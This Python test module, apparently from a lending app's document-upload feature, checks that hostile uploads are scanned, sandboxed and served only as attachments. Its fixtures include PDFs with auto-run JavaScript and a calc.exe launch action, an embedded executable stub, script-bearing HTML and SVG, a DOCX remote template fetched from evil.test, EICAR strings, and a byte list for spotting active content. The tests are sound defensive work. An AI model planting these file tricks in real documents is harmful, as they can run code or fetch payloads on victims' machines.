"""Files that act when somebody opens them, and papers that somebody ought to doubt."""

from __future__ import annotations

from base64 import encodebytes
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, replace
from io import BytesIO
from uuid import UUID

from app.core.exhibits import State
from app.documents.exhibit_signs import EICAR
from app.factory import create_app
from app.gateways.clamd import ScannerDown
from app.usecases.demo_steps import Part
from app.web.exhibit_words import WHY
from tests.attacks.reading import Input
from tests.attacks.running import Ground, Ran, check
from tests.exhibits.hostile import an_archive
from tests.exhibits.making import a_pdf, a_photo, a_picture, stream
from tests.stage import Visitor

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
LOCKED = (
    b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
    b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R/Encrypt<</Filter"
    b"/Standard/V 1/R 2/P -4/O(" + b"o" * 32 + b")/U(" + b"u" * 32 + b")>>/ID[(a)(a)]>>"
)
AFAR = b'<Relationship Target="http://evil.test/t.dotm" TargetMode="External"/>'
NET_OVER_GROSS = b"BT /F1 20 Tf 60 700 Td (Gross 1,000.00  Net 1,900.00) Tj ET"
FILES: dict[str, bytes] = {
    "pdf-javascript": a_pdf(catalog=b"/OpenAction" + SCRIPT),
    "pdf-embedded": a_pdf(
        catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe)5 0 R]>>>>",
        more=(b"<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>", stream(b"MZ" + bytes(99))),
    ),
    "pdf-xfa": a_pdf(catalog=b"/AcroForm<</XFA 5 0 R/Fields[]>>", more=(stream(b"<xdp/>"),)),
    "pdf-encrypted": LOCKED,
    "html-as-pdf": b"<!doctype html><html><script>alert(1)</script></html>",
    "svg-script": b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>",
    "docx-template": an_archive("word/_rels/settings.xml.rels", AFAR),
    "eicar": EICAR,
    "scanner-down": a_pdf(),
    "same-name": a_picture(),
    "net-over-gross": a_pdf(content=NET_OVER_GROSS),
    "pdf-launch": a_pdf(catalog=b"/OpenAction<</S/Launch/F(calc.exe)>>"),
    "jpeg-then-html": a_photo() + b"<html><script>alert(1)</script>",
    "html-in-exif": a_photo().replace(b"PHONEMAKER", b"<script>x<"),
    "eicar-in-pdf": a_pdf(content=EICAR),
    "eicar-in-base64": encodebytes(b"%" + EICAR),
}
ACTIVE = (b"<script", b"JavaScript", b"<svg", b"%PDF", b"MZ", b"<html")
PLAIN_PAGE = "text/html; charset=utf-8"


class Down:
    def finds(self, data: bytes) -> str:
        raise ScannerDown(str(len(data)))


@dataclass(frozen=True, slots=True)
class Ready:
    """``looked`` are the answers that staff and the borrower got about each paper that was kept."""

    ground: Ground
    part: Part
    looked: dict[str, list[tuple[str, str, str, bytes]]]

    @property
    def home(self) -> str:
        return f"/household/{self.part.household_id}/papers"

    @property
    def shared(self) -> str:
        return f"/cases/{self.part.case_id}/papers"

    def visitor(self, who: str, *, scanner_down: bool = False) -> Visitor:
        place = self.part.place
        people = {"b": self.part.borrower, "agent": place.agent, "counselor": place.counselor}
        if not scanner_down:
            return self.ground.visit(people[who])
        deps = replace(self.ground.deps, scanner=Down())
        return Visitor.open(create_app(deps), deps, people[who])


def prepare(ground: Ground) -> Ready:
    part = ground.stage.part("four-weekly", "confirm", "tell", "authority")
    ready = Ready(ground, part, {})
    answer = ready.visitor("b").post(f"{ready.shared}/sight", {"sees": "yes"})
    assert answer.status_code == 303
    return ready


def send(ready: Ready, one: Input) -> Ran:
    """Each on a day of its own; what was kept is then looked at by everybody."""
    ready.ground.clock.move(hours=25)
    browser = ready.visitor("b", scanner_down=one.name == "scanner-down")
    name = "payslip.pdf" if one.name != "same-name" else "payslip.png"
    statuses, text = [], ""
    for data in _files(one.name):
        form = {"file": (BytesIO(data), name if one.name == "same-name" else f"{one.name}.pdf")}
        answer = browser.post(f"{ready.home}/add/income-salary", form)
        statuses.append(answer.status_code)
        text = answer.text
    papers = _papers(ready, one.name)
    for paper, count, _ in papers:
        ready.looked.setdefault(one.name, []).extend(_looks(ready, paper, count))
    return Ran(tuple(statuses), len(statuses), (one.send, statuses[-1], text, papers))


def _files(name: str) -> tuple[bytes, ...]:
    edited = (a_picture(colour=(9, 9, 9)),) if name == "same-name" else ()
    return (FILES[name], *edited)


def _papers(ready: Ready, name: str) -> list[tuple[UUID, int, State]]:
    called = "payslip.png" if name == "same-name" else f"{name}.pdf"
    with ready.ground.deps.reading() as uow:
        return [
            (one.id, len(one.versions), one.versions[-1].state)
            for one in uow.exhibits.of(ready.part.household_id)
            if one.versions[-1].told.name == called
        ]


def _looks(ready: Ready, paper: UUID, version: int) -> Iterator[tuple[str, str, str, bytes]]:
    for who in ("b", "agent", "counselor"):
        browser = ready.visitor(who)
        for path in (f"{ready.home}/{paper}/{version}", f"{ready.shared}/{paper}/{version}"):
            for more in ("", "/1", "/file"):
                answer = browser.get(path + more)
                if answer.status_code == 200:
                    head = answer.headers
                    how = head.get("Content-Disposition", "")
                    said = f"{answer.content_type}|{how}|{head['Content-Security-Policy']}"
                    yield who, more, said, answer.data


@check
def nothing_is_served_inline(ready: Ready, _ran: Mapping[str, Ran]) -> Iterator[str]:
    """What is neither a page of ours nor a picture of ours is an attachment in a sandbox."""
    for name, looks in ready.looked.items():
        for who, more, said, _ in looks:
            kind, how, policy = said.split("|")
            fine = {
                "": kind == PLAIN_PAGE and "script-src 'nonce-" in policy,
                "/1": kind == "image/jpeg" and policy.startswith("sandbox;"),
                "/file": how.startswith("attachment") and policy.startswith("sandbox;"),
            }[more]
            if not fine:
                yield f"{name} for {who}: {more} {said}"


@check
def staff_get_pictures_and_nobody_else_the_file(
    ready: Ready, ran: Mapping[str, Ran]
) -> Iterator[str]:
    for name, result in ran.items():
        expected, status, _, papers = result.said
        if expected == "taken" and (status != 303 or not papers):
            yield f"{name}: was not taken"
        if expected == "version" and papers[0][1] != 2:
            yield f"{name}: took the place of the earlier one"
    for name, looks in ready.looked.items():
        if not any(more == "/1" for who, more, *_ in looks if who == "agent") and (
            name != "scanner-down"
        ):
            yield f"{name}: the lender sees nothing"
        for who, more, _, body in looks:
            if more == "/file" and who != "b":
                yield f"{name}: {who} got the file"
            if more == "/1" and any(word in body for word in ACTIVE):
                yield f"{name}: something active is left for {who}"


@check
def the_test_file_is_caught(ready: Ready, ran: Mapping[str, Ran]) -> Iterator[str]:
    """And nothing of a file that the scanner has not seen is shown, to its sender either."""
    for name, result in ran.items():
        expected, status, text, papers = result.said
        words = next((str(said) for why, said in WHY.items() if why == expected), "")
        if words and (status != 422 or words not in text or papers):
            yield f"{name}: was not refused as {expected}"
    (waiting,) = ran["scanner-down"].said[3]
    if waiting[2] is not State.PENDING:
        yield f"scanner-down: is {waiting[2]}"
    if any(more == "/1" for _, more, *_ in ready.looked.get("scanner-down", [])):
        yield "scanner-down: was shown"


@check
def figures_stay_as_told(ready: Ready, _ran: Mapping[str, Ran]) -> Iterator[str]:
    """Until a named person has looked; a machine refuses nobody for what a paper says."""
    paper, count, _ = _papers(ready, "net-over-gross")[0]
    one = f"{ready.shared}/{paper}/{count}"
    agent = ready.visitor("agent")
    if "The figure is as told" not in agent.get(one).text:
        yield "it is not said that nobody has checked it"
    agent.post(f"{one}/check", {"words": "The net pay is more than the gross pay."})
    if "Checked by" not in agent.get(one).text:
        yield "who checked it has no name"
